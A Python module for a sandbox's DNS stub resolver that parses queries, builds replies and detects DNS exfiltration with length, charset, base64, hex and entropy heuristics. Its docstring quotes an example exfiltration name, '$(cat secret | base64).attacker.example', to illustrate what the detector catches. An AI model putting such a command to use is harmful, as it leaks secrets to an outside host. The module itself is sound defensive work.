"""DNS messages for the sandbox's stub resolver (sans-IO, wire format by dnspython).

The sandbox's resolver only answers what policy allows; it never forwards a query as
sent. ``exfiltration_signs`` spots names that carry data out (``$(cat secret |
base64).attacker.example``): a DNS query reaches the attacker's name server even when it
is refused, as soon as anything resolves it, so the resolver must judge the name itself.
"""

from __future__ import annotations

import collections
import ipaddress
import math
import re
from collections.abc import Sequence
from dataclasses import dataclass

import dns.exception
import dns.flags
import dns.message
import dns.opcode
import dns.rcode
import dns.rdataclass
import dns.rdatatype
import dns.rrset

from corral.errors import CorralError

HEADER_SIZE = 12
_QR = int(dns.flags.QR)
_RD = int(dns.flags.RD)
_RA = int(dns.flags.RA)
_OPCODE_MASK = 0x7800

# Thresholds for exfiltration_signs; see its docstring.
MAX_NAME = 120
MAX_LABEL = 40
RANDOM_RUN = 16
ENTROPY_WITH_DIGITS = 3.5
ENTROPY_ALONE = 4.0

_LABEL_CHARS_RE = re.compile(r"[A-Za-z0-9_-]*")
_HEX_RE = re.compile(r"[0-9a-fA-F]+")
_RUN_SPLIT_RE = re.compile(r"[-_]+")


class DnsFormatError(CorralError, ValueError):
    """The bytes are not a DNS query the resolver answers."""


@dataclass(frozen=True, slots=True)
class Query:
    """One parsed query: ``name`` lower-case without the trailing dot ("" for the root), in
    dnspython's text form (so unusual bytes stay visible as escapes like ``\\000``)."""

    id: int
    name: str
    qtype: str
    wire: bytes


def parse_query(data: bytes) -> Query:
    """Parse a query: exactly one question, opcode QUERY, QR clear. Raises DnsFormatError."""
    message = _from_wire(data)
    if message.flags & dns.flags.QR:
        raise DnsFormatError("DNS message is a response, not a query")
    opcode = message.opcode()
    if opcode != dns.opcode.QUERY:
        raise DnsFormatError(
            f"DNS opcode {dns.opcode.to_text(opcode)} is not supported; only QUERY"
        )
    if len(message.question) != 1:
        raise DnsFormatError(
            f"DNS query has {len(message.question)} questions; exactly one is supported"
        )
    question = message.question[0]
    name = question.name.to_text(omit_final_dot=True).lower()
    return Query(
        id=message.id,
        name="" if name == "." else name,
        qtype=dns.rdatatype.to_text(question.rdtype),
        wire=bytes(data),
    )


def _from_wire(data: bytes) -> dns.message.Message:
    try:
        return dns.message.from_wire(data)
    # dnspython raises many types on hostile input (DNSException subclasses, but also
    # ValueError, UnicodeError, struct errors, KeyError from its tables), and the resolver
    # must answer FORMERR to all of them, not crash.
    except Exception as exc:
        raise DnsFormatError(f"malformed DNS message: {exc or type(exc).__name__}") from exc


def _response(query: Query) -> tuple[dns.message.Message, dns.message.Message]:
    request = _from_wire(query.wire)
    reply = dns.message.make_response(request)
    # The resolver answers from its own lookups: recursion is available to the sandbox.
    reply.flags |= dns.flags.RA
    return request, reply


def answer(query: Query, addresses: Sequence[str], ttl: int = 60) -> bytes:
    """A NOERROR reply with the A (or AAAA) records among ``addresses`` that match the
    question's type; no records when none match or the question is another type."""
    if not 0 <= ttl <= 2**31 - 1:
        raise ValueError(f"TTL must be 0-2147483647 seconds, got {ttl}")
    parsed = [ipaddress.ip_address(text) for text in addresses]
    request, reply = _response(query)
    question = request.question[0]
    family = {dns.rdatatype.A: 4, dns.rdatatype.AAAA: 6}.get(question.rdtype)
    if question.rdclass == dns.rdataclass.IN and family is not None:
        # Deduplicate in order: a record set cannot hold the same address twice.
        wanted = list(dict.fromkeys(str(ip) for ip in parsed if ip.version == family))
        if wanted:
            reply.answer.append(
                dns.rrset.from_text_list(
                    question.name, ttl, dns.rdataclass.IN, question.rdtype, wanted
                )
            )
    return reply.to_wire()


def refuse(query: Query, rcode: str = "REFUSED") -> bytes:
    """A REFUSED (or NXDOMAIN) reply echoing the question."""
    if rcode not in ("REFUSED", "NXDOMAIN"):
        raise ValueError(f"refuse() answers REFUSED or NXDOMAIN, not {rcode!r}")
    _, reply = _response(query)
    reply.set_rcode(dns.rcode.from_text(rcode))
    return reply.to_wire()


def format_error(data: bytes) -> bytes | None:
    """A FORMERR reply to bytes that did not parse as a query: the header with the same id,
    opcode and RD, QR set and no sections. None when there is no complete header to answer
    or the bytes are themselves a response (answering those could start an error loop
    between two resolvers)."""
    if len(data) < HEADER_SIZE:
        return None
    flags = int.from_bytes(data[2:4], "big")
    if flags & _QR:
        return None
    reply_flags = (flags & (_OPCODE_MASK | _RD)) | _QR | _RA | int(dns.rcode.FORMERR)
    return bytes(data[:2]) + reply_flags.to_bytes(2, "big") + bytes(8)


def exfiltration_signs(name: str) -> str | None:
    """Why a queried name looks like data smuggled out through DNS, or None.

    Signs, first found wins: a name longer than 120 characters; a label longer than 40; a
    label with characters outside letters, digits, hyphen and underscore (base64's ``=+/``,
    dnspython's escapes for other bytes). Then, in a label of 16+ characters: upper case,
    lower case and digits mixed (base64); only hex digits, at least 4 digits and 4 letters
    (hex). And in a run of 16+ characters between hyphens/underscores: Shannon entropy of
    4.0 bits per character or more, or 3.5 or more with digits that are not just a suffix
    (base32, and base64 once lower-cased: names from ``parse_query`` are).

    Why entropy needs digits below 4.0: ordinary long words reach 3.5 (``google-analytics``
    has exactly 3.5, ``marketplace-visualstudio`` 3.9), while encoders scatter digits through
    their output and names scatter them only at the end of a word (``storageaccount123``).
    Runs between hyphens, not whole labels, because hyphens join words
    (``prod-registry-k8s-io-us-east-1``) and encoders other than base64url do not emit them.
    """
    name = name.removesuffix(".")
    if len(name) > MAX_NAME:
        return f"name is {len(name)} characters long (more than {MAX_NAME})"
    for label in name.split("."):
        if len(label) > MAX_LABEL:
            return f"label {_short(label)} is {len(label)} characters long (more than {MAX_LABEL})"
        if not _LABEL_CHARS_RE.fullmatch(label):
            odd = sorted({c for c in label if not (c.isascii() and (c.isalnum() or c in "-_"))})
            return (
                f"label {_short(label)} contains {''.join(odd)!r}, "
                "characters host names do not use (base64 or binary data)"
            )
        if len(label) < RANDOM_RUN:
            continue
        if _mixes_case_and_digits(label):
            return f"label {_short(label)} mixes upper case, lower case and digits like base64"
        if _looks_hex(label):
            return f"label {_short(label)} is a hex string"
        for run in _RUN_SPLIT_RE.split(label):
            if len(run) < RANDOM_RUN:
                continue
            entropy = _entropy(run.lower())
            if entropy >= ENTROPY_ALONE or (entropy >= ENTROPY_WITH_DIGITS and _inner_digit(run)):
                return (
                    f"label {_short(label)} looks random ({entropy:.2f} bits per character), "
                    "like encoded data"
                )
    return None


def _mixes_case_and_digits(label: str) -> bool:
    return (
        any(c.isupper() for c in label)
        and any(c.islower() for c in label)
        and any(c.isdigit() for c in label)
    )


def _looks_hex(label: str) -> bool:
    if not _HEX_RE.fullmatch(label):
        return False
    digits = sum(c.isdigit() for c in label)
    return digits >= 4 and len(label) - digits >= 4


def _inner_digit(run: str) -> bool:
    return any(c.isdigit() for c in run.rstrip("0123456789"))


def _entropy(text: str) -> float:
    counts = collections.Counter(text)
    size = len(text)
    return -sum(n / size * math.log2(n / size) for n in counts.values())


def _short(label: str, limit: int = 24) -> str:
    return repr(label if len(label) <= limit else label[:limit] + "...")
